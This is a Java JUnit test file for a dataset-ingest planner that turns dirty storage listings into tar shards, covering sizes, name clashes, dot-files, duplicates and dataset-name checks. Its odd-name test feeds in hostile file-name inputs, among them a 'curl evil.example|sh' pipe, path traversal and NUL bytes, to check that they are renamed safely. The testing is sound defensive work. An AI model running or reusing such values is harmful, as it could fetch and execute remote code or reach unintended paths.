package io.tarpon.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tarpon.ingest.disk.SpoolArea;
import io.tarpon.store.SourceObject;
import io.tarpon.wire.DatasetName;
import io.tarpon.wire.VersionId;
import io.tarpon.wire.gateway.ReportLine;
import io.tarpon.wire.metadata.DatasetSpec;
import io.tarpon.wire.plan.PlannedMember;
import io.tarpon.wire.plan.PlannedSample;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What real listings have in them, by the rows of the list of bad inputs: sizes (B9), samples (B10), names that meet
/// (B11), files that are none of ours (B12), odd names (B13), listings that are wrong (B30), names of datasets (B31).
class DirtyListingTest {
    private static final DatasetName DEMO = new DatasetName("demo");
    private static final VersionId V1 = new VersionId(1);
    private static final String MD5 = "d41d8cd98f00b204e9800998ecf8427e";

    @TempDir
    Path folder;

    private final MemoryStore store = new MemoryStore();
    private final PlanFiles files = new PlanFiles(store, DEMO, V1);
    private SpoolArea spool;

    @BeforeEach
    void open() throws Exception {
        spool = new SpoolArea(folder.resolve("spool"), 256 << 20);
    }

    @Test
    void b9ObjectsUpToTheLastByteATarCanSayAreMembersAndLargerOnesAreLeftOut() throws Exception {
        var plan = freeze(
                file("none.bin", 0),
                file("one.bin", 1),
                file("half-a-mib.bin", 512 << 10),
                file("last.bin", (8L << 30) - 1),
                file("first-too-large.bin", 8L << 30),
                file("declared.bin", 5L << 40));
        assertThat(members(plan))
                .extracting(member -> member.size())
                .containsExactlyInAnyOrder(0L, 1L, 512L << 10, (8L << 30) - 1);
        assertThat(plan.inputs().leftOut()).containsOnlyKeys("too-large").containsValue(2L);
        assertThat(files.report())
                .containsExactly(
                        ReportLine.leftOut("declared.bin", "too-large"),
                        ReportLine.leftOut("first-too-large.bin", "too-large"));
        assertThat(plan.inputs().found()).isEqualTo(6);
    }

    @Test
    void b9ASourceOfNothingButTooLargeObjectsHasNoSamples() throws Exception {
        var plan = freeze(file("train/a.bin", 5L << 40), file("val/b.bin", Long.MAX_VALUE));
        assertThat(plan.splits()).isEmpty();
        assertThat(plan.inputs().leftOut()).containsOnlyKeys("too-large").containsValue(2L);
    }

    @Test
    void b9AThousandSamplesOfTheLargestSizeDoNotOverflowAPlan() throws Exception {
        var plan = freeze(IntStream.range(0, 1_000)
                .mapToObj(i -> file("clip-%04d.bin".formatted(i), (8L << 30) - 1))
                .toArray(SourceObject[]::new));
        assertThat(plan.shards()).as("each stands alone").isEqualTo(1_000);
        assertThat(plan.splits().getFirst().shards())
                .allSatisfy(shard -> assertThat(shard.bytes()).isEqualTo(512 + (8L << 30) + 1_024));
    }

    @Test
    void b10ASampleOfOneFileIsASampleAndSoIsOneThatLacksWhatOthersHave() throws Exception {
        var plan = freeze(file("a.jpg", 1), file("a.cls", 1), file("b.jpg", 1), file("c.cls", 1));
        var samples = files.samples(plan, "train");
        assertThat(samples).extracting(PlannedSample::key).containsExactlyInAnyOrder("a", "b", "c");
        assertThat(plan.inputs().leftOutCount()).isZero();
    }

    @Test
    void b10ASampleOfTenThousandFilesIsOneSampleWithTheETagsOfABucketOrAFolder() throws Exception {
        for (var etag : List.of(MD5, "18795e2a3f4b5c6d-1fffffff")) {
            var plan = freeze(IntStream.range(0, 10_000)
                    .mapToObj(i -> SourceObject.file("video.%06d.png".formatted(i), 100_000, etag))
                    .toArray(SourceObject[]::new));
            var sample = files.samples(plan, "train").getFirst();
            assertThat(sample.members())
                    .hasSize(10_000)
                    .allMatch(member -> member.etag().equals(etag));
            assertThat(plan.shards()).isEqualTo(1);
        }
    }

    @Test
    void b10AGrownVersionKeepsASampleOfTenThousandFiles() throws Exception {
        var lineage = new Lineage(store, spool, DatasetSpec.of("photos"));
        var objects = new ArrayList<>(IntStream.range(0, 10_000)
                .mapToObj(i -> SourceObject.file("video.%06d.png".formatted(i), 100_000, MD5))
                .toList());
        var first = lineage.anew(objects);
        objects.add(file("z.jpg", 1));
        var kept = lineage.grow(first, objects);
        assertThat(kept.plan().kept()).as("the shard of the video").isEqualTo(1);
        objects.set(5_000, SourceObject.file("video.005000.png", 100_000, "another"));
        var changed = lineage.grow(kept, objects);
        assertThat(changed.plan().inputs().members()).isEqualTo(10_001);
        assertThat(changed.plan().kept()).as("the shard of z.jpg").isEqualTo(1);
    }

    @Test
    void b11KeysThatDifferInCaseAreDifferentSamples() throws Exception {
        var plan = freeze(file("Photo.jpg", 1), file("photo.jpg", 2), file("PHOTO.JPG", 3), file("dir/A.x", 1));
        assertThat(files.samples(plan, "train"))
                .extracting(PlannedSample::key)
                .containsExactlyInAnyOrder("Photo", "photo", "PHOTO", "dir/A");
        assertThat(plan.inputs().renamed()).isZero();
    }

    @Test
    void b11ExtensionsThatDifferInCaseMeetAndTheLaterOneIsReported() throws Exception {
        var plan = freeze(file("photo.JPG", 1), file("photo.jpg", 2));
        assertThat(members(plan)).extracting(PlannedMember::sourceKey).containsExactly("photo.JPG");
        assertThat(files.report()).containsExactly(ReportLine.leftOut("photo.jpg", "duplicate-member"));
    }

    @Test
    void b11TheSameNameInTwoFoldersIsTwoSamples() throws Exception {
        var plan = freeze(file("cats/1.jpg", 1), file("dogs/1.jpg", 2), file("1.jpg", 3));
        assertThat(files.samples(plan, "train"))
                .extracting(PlannedSample::key)
                .containsExactlyInAnyOrder("cats/1", "dogs/1", "1");
    }

    @Test
    void b11ComposedAndDecomposedNamesAreTwoSamplesWithTwoNames() throws Exception {
        var composed = Normalizer.normalize("café", Normalizer.Form.NFC);
        var decomposed = Normalizer.normalize("café", Normalizer.Form.NFD);
        assertThat(composed).isNotEqualTo(decomposed);
        var plan = freeze(file(composed + ".jpg", 1), file(decomposed + ".jpg", 2));
        var samples = files.samples(plan, "train");
        assertThat(samples).hasSize(2).doesNotHaveDuplicates();
        assertThat(samples.stream().map(PlannedSample::key).distinct()).hasSize(2);
        assertThat(members(plan))
                .extracting(PlannedMember::sourceKey)
                .containsExactlyInAnyOrder(composed + ".jpg", decomposed + ".jpg");
        assertThat(plan.inputs().renamed()).isEqualTo(2);
    }

    @Test
    void b12FilesWithoutAnExtensionAndDotFilesAreLeftOutEachWithItsReason() throws Exception {
        var plan = freeze(
                file("README", 1),
                file("a/LICENSE", 1),
                file("trailing.", 1),
                file(".hidden", 1),
                file("a/.hidden", 1),
                file("a/.hidden.jpg", 1),
                file(".cache/x.jpg", 1),
                file("a/.git/objects/x.jpg", 1),
                file("folder/", 0),
                file("x..jpg", 1),
                file("fine.jpg", 1));
        assertThat(plan.inputs().leftOut())
                .isEqualTo(new TreeMap<>(Map.of("no-extension", 3L, "dot-file", 5L, "not-a-regular-file", 1L)));
        assertThat(files.report())
                .contains(
                        ReportLine.leftOut("README", "no-extension"),
                        ReportLine.leftOut("trailing.", "no-extension"),
                        ReportLine.leftOut("a/.hidden", "dot-file"),
                        ReportLine.leftOut("a/.git/objects/x.jpg", "dot-file"),
                        ReportLine.leftOut("folder/", "not-a-regular-file"));
        assertThat(members(plan)).extracting(PlannedMember::sourceKey).containsExactlyInAnyOrder("x..jpg", "fine.jpg");
        assertThat(members(plan)).extracting(PlannedMember::extension).containsExactlyInAnyOrder(".jpg", "jpg");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "mit leer.jpg",
                "quo\"te.jpg",
                "it's.jpg",
                "été.jpg",
                "\uD83D\uDE00.jpg",
                "tab\tnewline\n.jpg",
                "rtl\u202Egnp.jpg",
                "back\\slash.jpg",
                "a//b.jpg",
                "../up.jpg",
                "/abs.jpg",
                "r/already.jpg",
                "nul\0.jpg",
                "-rf.jpg",
                "__key__/x.jpg",
                "pipe:curl evil.example|sh.jpg",
                "https://evil.example/a.jpg"
            })
    void b13AnOddNameIsRenamedForTheTarAndKeptForTheSource(String key) throws Exception {
        var plan = freeze(file(key, 7));
        var sample = files.samples(plan, "train").getFirst();
        var member = sample.members().getFirst();
        assertThat(member.sourceKey()).isEqualTo(key);
        if (!key.equals("-rf.jpg")) {
            assertThat(sample.key()).matches("r/[A-Za-z0-9_-]{1,48}-[0-9a-f]{16}");
            assertThat(files.report()).containsExactly(ReportLine.renamed(key, sample.name(member)));
        }
        assertThat(plan.inputs().members()).isEqualTo(1);
    }

    @Test
    void b13ANameOfAHundredBytesIsKeptAndOneMoreIsRenamed() throws Exception {
        var kept = "k".repeat(96) + ".jpg";
        var renamed = "n".repeat(97) + ".jpg";
        assertThat(renamed.getBytes(StandardCharsets.UTF_8)).hasSize(101);
        var plan = freeze(file(kept, 1), file(renamed, 1));
        assertThat(plan.inputs().renamed()).isEqualTo(1);
        assertThat(files.samples(plan, "train"))
                .extracting(PlannedSample::key)
                .contains("k".repeat(96))
                .anyMatch(key -> key.startsWith("r/" + "n".repeat(48) + "-"));
    }

    @Test
    void b13LongKeysOfManyComponentsArePlanned() throws Exception {
        var key = "a/".repeat(300) + "x".repeat(400) + ".jpg";
        assertThat(key.length()).isGreaterThan(1_000);
        assertThat(members(freeze(file(key, 1))))
                .extracting(PlannedMember::sourceKey)
                .containsExactly(key);
    }

    @Test
    void b30AKeyThatAListingGivesTwiceIsOneMemberAndIsReported() throws Exception {
        var objects = new ArrayList<>(List.of(file("a.jpg", 1), file("a.jpg", 1), file("b.jpg", 1), file("b.jpg", 2)));
        var plan = freeze(objects.toArray(SourceObject[]::new));
        assertThat(plan.inputs().found()).isEqualTo(4);
        assertThat(plan.inputs().leftOut()).containsOnlyKeys("duplicate-member").containsValue(2L);
        assertThat(members(plan)).extracting(PlannedMember::sourceKey).containsExactlyInAnyOrder("a.jpg", "b.jpg");
        var digest = plan.planDigest();
        Collections.reverse(objects);
        assertThat(freeze(objects.toArray(SourceObject[]::new)).planDigest())
                .as("which one stays does not depend on the listing's order")
                .isEqualTo(digest);
    }

    @Test
    void b30AListingInAnyOrderGivesTheSamePlan() throws Exception {
        long seed = System.nanoTime();
        System.out.println("DirtyListingTest seed=" + seed);
        var source = new ListingChanges(new Random(seed), List.of("", "été/", "A/"));
        source.add(300);
        for (int i = 0; i < 20; i++) {
            source.change();
        }
        var objects = new ArrayList<>(source.objects());
        var plan = freeze(objects.toArray(SourceObject[]::new));
        Collections.shuffle(objects, new Random(seed));
        assertThat(freeze(objects.toArray(SourceObject[]::new))).isEqualTo(plan);
    }

    @ParameterizedTest
    @ValueSource(strings = {"../x", "a/b", "", ".", "x y", "Demo", "d\u0435mo", "ｄｅｍｏ", "demo\0", "-demo"})
    void b31ANameThatIsNoDatasetIsRefusedBeforeAnythingIsPlanned(String name) {
        assertThatThrownBy(() -> new DatasetName(name))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("dataset");
    }

    @Test
    void b31ADatasetNameOfThreeHundredCharactersIsRefused() {
        assertThat(new DatasetName("x".repeat(63)).value()).hasSize(63);
        assertThatThrownBy(() -> new DatasetName("x".repeat(300))).isInstanceOf(IllegalArgumentException.class);
    }

    private FrozenPlan freeze(SourceObject... objects) throws Exception {
        return new PlanFreezing(store, spool, 3 << 20, 2_000, ShortPauses.forEver())
                .freeze(GeneratedSource.of(Stream.of(objects)), DEMO, V1, DatasetSpec.of("photos"));
    }

    private List<PlannedMember> members(FrozenPlan plan) throws Exception {
        return files.samples(plan, "train").stream()
                .flatMap(sample -> sample.members().stream())
                .toList();
    }

    private static SourceObject file(String key, long size) {
        return SourceObject.file(key, size, MD5);
    }
}
